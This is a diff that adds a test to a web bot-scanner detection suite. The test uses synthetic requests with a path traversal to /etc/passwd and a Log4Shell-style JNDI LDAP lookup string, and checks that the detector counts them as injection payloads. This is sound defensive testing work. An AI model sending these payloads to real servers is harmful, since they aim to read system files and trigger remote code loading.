@@ -34,6 +34,17 @@ describe('bot.scanner', () => {
     expect(d?.explanation).toContain('requests with injection payloads')
   })
 
+  it('counts payloads in paths and queries too long to remember each time they come', () => {
+    const long = 'a'.repeat(600)
+    const scan = Array.from({ length: 4 }, (_, i) => [
+      req({ ts: T0 + i * 1000, source_ip: IP, url_path: `/${long}/../../etc/passwd` }),
+      req({ ts: T0 + i * 1000 + 10, source_ip: IP, url_path: '/search', url_query: `q=${long}&x=\${jndi:ldap://a/b}` }),
+    ]).flat()
+    const d = run(scanner(), scan).find((x) => x.entity.type === 'ip')
+    expect(d?.threat).toBe('OAT-014')
+    expect(d?.explanation).toContain('8 requests with injection payloads')
+  })
+
   it('calls a spread of 404s footprinting (OAT-018) and version files fingerprinting (OAT-004)', () => {
     const enumerate = Array.from({ length: 60 }, (_, i) => req({ ts: T0 + i * 500, source_ip: IP, url_path: `/old-page-${i}`, http_response_status_code: 404 }))
     expect(run(scanner(), enumerate).find((d) => d.entity.type === 'ip')?.threat).toBe('OAT-018')
